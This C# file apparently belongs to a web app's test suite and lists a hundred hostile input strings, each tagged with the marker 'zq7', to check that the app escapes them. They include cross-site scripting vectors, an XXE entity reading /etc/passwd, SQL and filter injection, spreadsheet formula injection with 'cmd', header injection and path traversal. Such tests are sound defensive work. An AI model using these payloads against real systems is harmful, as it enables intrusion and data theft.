namespace Scenarios.Pages.Hostile;

/// <summary>What people may write, and what would do harm where it became markup, code, a formula or a header.</summary>
internal static class HostileTexts
{
    /// <summary>In each of them: no element, attribute or address of a page, mail or feed has it.</summary>
    public const string Mark = "zq7";

    /// <summary>A hundred; each is one line that the app takes as it is.</summary>
    public static readonly IReadOnlyList<string> All =
    [
        "<script>zq7()</script>",
        "<ScRiPt src=//zq7.example/x.js></sCrIpT>",
        "<img src=x onerror=zq7()>",
        "<svg onload=zq7()>",
        "<svg><script>zq7()</script></svg>",
        "<body onload=zq7()>",
        "<iframe src=\"javascript:zq7()\"></iframe>",
        "<iframe srcdoc=\"<script>zq7()</script>\">",
        "<a href=\"javascript:zq7()\">x</a>",
        "<details open ontoggle=zq7()>",
        "<input autofocus onfocus=zq7()>",
        "<video><source onerror=zq7()>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=zq7()>",
        "<object data=\"data:text/html,zq7\">",
        "<embed src=\"//zq7.example\">",
        "<link rel=stylesheet href=//zq7.example/a.css>",
        "<style>@import \"//zq7.example/a.css\";</style>",
        "<base href=\"//zq7.example/\">",
        "<meta http-equiv=refresh content=\"0;url=//zq7.example\">",
        "<form action=\"//zq7.example\"><button>x</button>",
        "<button formaction=\"//zq7.example\">x",
        "<marquee onstart=zq7()>x</marquee>",
        "<template><img onerror=zq7()></template>",
        "<noscript><img src=x onerror=zq7()></noscript>",
        "<zq7 onclick=1>x</zq7>",
        "<x-zq7 contenteditable onblur=zq7()>",
        "<img src=\"//zq7.example/pixel\">",
        "<div style=\"background:url(//zq7.example)\">",
        "<table background=\"//zq7.example\">",
        "<audio src onerror=zq7()>",
        "\" onmouseover=\"zq7()",
        "' onmouseover='zq7()",
        "\"><script>zq7()</script>",
        "'><script>zq7()</script>",
        "\"/><img src=x onerror=zq7()>",
        "` onclick=zq7() `",
        "</title><script>zq7()</script>",
        "</textarea><script>zq7()</script>",
        "</option></select><img onerror=zq7() src>",
        "</script><script>zq7()</script>",
        "</style><img src onerror=zq7()>",
        "--><script>zq7()</script><!--",
        "]]><script>zq7()</script>",
        "<![CDATA[<script>zq7()</script>]]>",
        "<!--<img src=\"--><img src=x onerror=zq7()//\">",
        "<?xml version=\"1.0\"?><zq7/>",
        "<!DOCTYPE zq7 [<!ENTITY zq7 SYSTEM \"file:///etc/passwd\">]>",
        "&zq7;",
        "&lt;script&gt;zq7()&lt;/script&gt;",
        "&#60;script&#62;zq7()&#60;/script&#62;",
        "&#x3C;img src=x onerror=zq7()&#x3E;",
        "&amp;lt;zq7&amp;gt;",
        "\\u003cscript\\u003ezq7()",
        "%3Cscript%3Ezq7()%3C/script%3E",
        "%253Cscript%253Ezq7",
        "+ADw-script+AD4-zq7()+ADw-/script+AD4-",
        "＜script＞zq7()＜/script＞",
        "<scr<script>ipt>zq7()</scr</script>ipt>",
        "<<script>zq7()//<</script>",
        "<img/src=x/onerror=zq7()>",
        "{{7*7}}zq7",
        "${7*7}zq7",
        "#{7*7}zq7",
        "<%= 7*7 %>zq7",
        "@Model.zq7",
        "@(7*7)zq7",
        "@{ zq7 }",
        "{% zq7 %}",
        "[[zq7]]",
        "{0} {1} {title} {zq7}",
        "'; zq7(); //",
        "\"; zq7(); //",
        "javascript:zq7()",
        "data:text/html,<script>zq7()</script>",
        "//zq7.example/",
        "[x](javascript:zq7())",
        "![x](//zq7.example/y)",
        "=HYPERLINK(\"//zq7.example\",\"x\")",
        "+cmd|zq7",
        "@SUM(zq7)",
        "-1+zq7",
        "%0d%0aSet-Cookie: zq7=1",
        "\\r\\nBcc: a@zq7.example",
        "=?utf-8?B?zq7?=",
        "'; DROP TABLE zq7; --",
        "' or PartitionKey ne 'zq7",
        "$filter=true zq7",
        "../../zq7",
        "..\\..\\zq7",
        "C:\\zq7.exe",
        "zq7…“‘«»’”",
        "zq7 é ñ 中文 漢字 한국어 العربية עברית",
        "zq7 😀👨‍👩‍👧‍👦🏳️‍🌈",
        "zq7 <3 & \"co\" 'x' > y",
        "a < b && c > d || zq7",
        "zq7&nbsp;&copy;&bogus;",
        "Z̷̢͝a̸l̷g̵o̴ zq7",
        "zq7  　x",
        "zq7WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
        "(zq7) [x] {y} <z>",
    ];

    /// <summary>In pieces of several texts, each as long as a field allows.</summary>
    public static IReadOnlyList<string> Chunks(int length)
    {
        var chunks = new List<string> { All[0] };
        foreach (var text in All.Skip(1))
        {
            if (chunks[^1].Length + 3 + text.Length <= length) chunks[^1] = $"{chunks[^1]} | {text}";
            else chunks.Add(text);
        }

        return chunks;
    }
}
